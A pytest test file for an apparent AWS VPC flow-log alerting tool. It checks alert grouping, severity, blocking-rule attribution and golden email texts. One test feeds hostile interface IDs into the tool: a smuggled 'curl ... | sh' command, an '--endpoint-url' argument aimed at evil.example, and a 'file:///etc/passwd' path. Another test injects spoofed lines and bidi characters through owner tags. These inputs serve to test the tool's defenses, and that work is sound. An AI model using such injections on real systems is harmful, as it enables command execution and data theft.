"""Grouping, severity, fingerprints, and the texts of notifications."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pytest

from flowverdict.alerts.grouping import group
from flowverdict.alerts.model import Alert, Severity
from flowverdict.delivery import sns
from flowverdict.delivery.renderers import email
from flowverdict.network.snapshot import load_snapshot, parse_snapshot
from flowverdict.verdict.batch import Batch, FixedConfig
from tests.helpers.transit_gateway import ATTACHMENT

ROOT = Path(__file__).parents[2]
SCENARIOS = ROOT / "tests" / "scenarios"
GOLDEN = ROOT / "tests" / "golden"


type Edits = tuple[tuple[str, str], ...]


def alerts_of(*names: str, edits: Edits = (), beside: bool = True) -> list[Alert]:
    """Group the flows of scenarios, each edited and, with ``beside``, unedited too."""
    batch = Batch()
    for name in names:
        text = (SCENARIOS / f"{name}.log").read_text()
        edited = text
        for old, new in edits:
            assert old in text
            edited = edited.replace(old, new)
        for variant in {text, edited} if beside else {edited}:
            batch.add_file(io.BytesIO(variant.encode()), name=f"{name}.log")
    with_rules = all(name.startswith("rules-") for name in names)
    return alerts_in(
        batch, FixedConfig(load_snapshot(SCENARIOS / "shop.config.json")) if with_rules else None
    )


def alerts_in(batch: Batch, config: FixedConfig | None = None) -> list[Alert]:
    notifications = [detection.notification for detection in group(batch.explanations(config))]
    return [notification for notification in notifications if isinstance(notification, Alert)]


# --- grouping -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "edit",
    [
        ("50122", "50999"),
        ("203.0.113.12", "203.0.113.13"),
        ("1795348805", "1795352405"),
        ("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"),
    ],
    ids=["ephemeral port", "remote address", "time", "interface of the same VPC"],
)
def test_what_differs_with_every_connection_makes_no_new_alert(edit: tuple[str, str]) -> None:
    (plain,) = alerts_of("outbound-response")
    (both,) = alerts_of("outbound-response", edits=(edit,))
    assert both.fingerprint == plain.fingerprint
    assert both.records == 2


@pytest.mark.parametrize(
    "edit",
    [
        ("443", "8443"),
        ("vpc-0123456789abcdef0", "vpc-0fedcba9876543210"),
        ("123456789012", "210987654321"),
        ("eu-west-1", "us-east-1"),
    ],
    ids=["service port", "VPC", "account", "Region"],
)
def test_what_makes_another_problem_makes_another_alert(edit: tuple[str, str]) -> None:
    edits = (edit, ("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"))
    assert len({alert.fingerprint for alert in alerts_of("outbound-response", edits=edits)}) == 2


def test_without_a_vpc_in_the_log_the_interface_tells_alerts_apart() -> None:
    assert (
        len(
            alerts_of(
                "default-format-outbound-response",
                edits=(("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"),),
            )
        )
        == 2
    )


def test_the_weakest_confidence_is_the_alerts_so_that_certain_holds_for_every_flow() -> None:
    (alone,) = alerts_of("inbound-request")
    assert alone.confidence == "certain"
    # The same request from another host, in a format without TCP flags, is not certain.
    batch = Batch()
    text = (SCENARIOS / "inbound-request.log").read_text()
    batch.add_file(io.BytesIO(text.encode()), name="with flags")
    batch.add_file(
        io.BytesIO(
            text.replace(" - 2 IPv4 ", " - - IPv4 ").replace("10.0.2.20", "10.0.2.21").encode()
        ),
        name="without",
    )
    (mixed,) = alerts_in(batch)
    assert (mixed.confidence, dict(mixed.confidences)) == (
        "possible",
        {"certain": 1, "possible": 1},
    )
    assert "at least possible: certain for 1, possible for 1 of 2 flows" in " ".join(
        email.body(mixed).split()
    )


def test_most_severe_first() -> None:
    alerts = alerts_of(
        "closed-connection", "inbound-request", "inbound-response", "internet-without-reject-reason"
    )
    assert [alert.severity for alert in alerts] == [
        Severity.CRITICAL,
        Severity.HIGH,
        Severity.LOW,
        Severity.INFO,
    ]


_OTHER_REASON = "41999 5432 6 5 300 1795348805 1795348850 OK IPv4 0 5"


@pytest.mark.parametrize(
    ("edit", "alerts"),
    [
        (("41200 5432 6", "41999 443 17"), 1),  # another service, on the same missing route
        (("10.9.0.7", "10.9.200.1"), 1),
        (("10.9.0.7", "10.8.0.7"), 2),
        ((ATTACHMENT, "tgw-attach-0aaaaaaaaaaaaaaa9"), 2),
        (("41200 5432 6 5 300 1795348805 1795348850 OK IPv4 5 0", _OTHER_REASON), 2),
    ],
    ids=["service", "same range", "another range", "another attachment", "another reason"],
)
def test_a_missing_route_of_an_attachment_is_one_alert(edit: tuple[str, str], alerts: int) -> None:
    assert len(alerts_of("transit-gateway-no-route", edits=(edit,))) == alerts


def test_public_destinations_of_ipv4_are_one_alert() -> None:
    found = alerts_of(
        "transit-gateway-no-route",
        edits=(("10.9.0.7 41200", "198.51.100.7 41200"), ("10.9.0.7", "203.0.113.9")),
        beside=False,
    )
    assert len(found) == 1


# --- severity -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("scenario", "edits", "severity"),
    [
        ("outbound-response", (), "critical"),
        ("inbound-response", (), "critical"),
        (
            "ntp-both-ports-the-same",
            (),
            "high",
        ),  # a response that is only possible is not critical
        ("inbound-request", (), "high"),
        ("outbound-request", (), "high"),
        ("outbound-request", (("10.0.3.30", "198.51.100.7"),), "medium"),
        ("block-public-access", (), "low"),
        ("backscatter", (), "low"),
        ("closed-connection", (), "info"),
        ("transit-gateway-no-route", (), "high"),
        ("transit-gateway-no-route", (("10.0.1.5", "198.51.100.7"),), "high"),
        ("transit-gateway-no-route", (("10.9.0.7", "198.51.100.7"),), "medium"),
        ("transit-gateway-blackhole-route", (), "medium"),  # public addresses of IPv6
        ("transit-gateway-mtu-exceeded", (), "high"),
        ("transit-gateway-ttl-expired", (), "medium"),
    ],
)
def test_severity_and_its_reason(scenario: str, edits: Edits, severity: str) -> None:
    (alert,) = alerts_of(scenario, edits=edits, beside=False)
    assert alert.severity == severity
    assert alert.severity_reason


def test_egress_to_an_aws_service_is_high_but_to_anybodys_ec2_machine_is_not() -> None:
    header = (SCENARIOS / "aws-9-service-and-path.log").read_text().splitlines()[0]
    line = (
        "5 10.0.0.71 203.0.113.179 34210 443 6 1616729292 1616729349 IPv4 7 471 123456789012 "
        "vpc-1 subnet-1 i-1 eni-1 eu-west-1 euw1-az1 - - REJECT 2 "
        "10.0.0.71 203.0.113.179 - {service} 8 egress OK"
    )
    severities = {}
    for service in ("S3", "EC2", "-"):
        batch = Batch()
        batch.add_file(io.BytesIO(f"{header}\n{line.format(service=service)}\n".encode()), name="x")
        (alert,) = alerts_in(batch)
        severities[service] = alert.severity.value
    assert severities == {"S3": "high", "EC2": "medium", "-": "medium"}


# --- rules ----------------------------------------------------------------------------------------


def test_what_blocks_is_part_of_what_an_alert_is_about() -> None:
    plain, by_rule = alerts_of("outbound-response")[0], alerts_of("rules-outbound-response")[0]
    assert by_rule.blocker == "acl-0aaa0000000000001 rule 32767"
    assert by_rule.fingerprint != plain.fingerprint
    assert (
        alerts_of("rules-both-layers")[0].blocker
        == "acl-0ccc0000000000003 rule 32767, sg-0ccc0000000000003"
    )


def test_tags_that_name_an_owner_are_shown_and_no_line_is_faked_with_them() -> None:
    snapshot = json.loads((SCENARIOS / "shop.config.json").read_text())
    for interface in snapshot["NetworkInterfaces"]:
        interface["TagSet"] = [
            {"Key": "Owner", "Value": "shop-team\n[flowverdict LOW] \u202eharmless"},
            {"Key": "team", "Value": "web"},
            {"Key": "cost-center", "Value": "4711"},
        ]
    batch = Batch()
    batch.add_file(io.BytesIO((SCENARIOS / "rules-inbound-request.log").read_bytes()), name="x")
    (alert,) = alerts_in(batch, FixedConfig(parse_snapshot(snapshot)))
    assert alert.owners == (("Owner", "shop-team [flowverdict LOW] harmless"), ("team", "web"))
    assert "Owner     Owner shop-team [flowverdict LOW] harmless, team web" in email.body(alert)


# --- texts ----------------------------------------------------------------------------------------

FACES = (
    "outbound-response",
    "inbound-request",
    "outbound-request",
    "inbound-response",
    "default-format-outbound-response",
    "backscatter",
    "closed-connection",
    "block-public-access",
    "reply-looking-without-request",
    "same-subnet-request",
    "rules-outbound-response",
    "rules-inbound-request",
    "rules-both-layers",
    "rules-allow-now",
    "rules-backscatter",
    "rules-gateway-endpoint",
    "rules-peering",
    "rules-icmp",
    "transit-gateway-no-route",
    "transit-gateway-blackhole-route",
    "transit-gateway-mtu-exceeded",
    "transit-gateway-ttl-expired",
)


@pytest.mark.parametrize("name", FACES)
def test_the_email_reads_as_agreed(name: str) -> None:
    """``UPDATE_GOLDEN=1 make test`` rewrites the files; read the difference before a commit."""
    alert = alerts_of(name)[0]
    text = f"Subject: {email.subject(alert)}\n\n{email.body(alert)}"
    path = GOLDEN / f"email-{name}.txt"
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text)
    assert path.read_text() == text


@pytest.mark.parametrize("name", FACES)
def test_subjects_are_short_printable_ascii_and_attributes_are_text(name: str) -> None:
    alert = alerts_of(name)[0]
    subject = email.subject(alert)
    assert len(subject) < 100
    assert subject.isascii()
    assert subject.isprintable()
    attributes = sns.attributes(alert)
    assert set(attributes) == {"kind", "status", "severity", "verdict", "leg", "direction"}
    assert all(
        value["DataType"] == "String" and value["StringValue"] for value in attributes.values()
    )


@pytest.mark.parametrize(
    "hostile",
    ["1;curl${IFS}x|sh", "--endpoint-url=https://evil.example", "file:///etc/passwd", "*"],
)
def test_what_is_no_id_is_in_no_command(hostile: str) -> None:
    interface, attachment = f"eni-{hostile}", f"tgw-attach-{hostile}"
    alerts = alerts_of(
        "default-format-outbound-response", edits=(("eni-0aaaaaaaaaaaaaaa1", interface),)
    )
    (alert,) = [alert for alert in alerts if interface in alert.interfaces]
    assert alert.next_steps
    assert not any("aws ec2" in step for step in alert.next_steps)
    alerts = alerts_of("transit-gateway-no-route", edits=((ATTACHMENT, attachment),), beside=False)
    assert [alert.interfaces for alert in alerts] == [(attachment,)]
    assert not any("aws ec2" in step for step in alerts[0].next_steps)
    assert alerts[0].links == ()
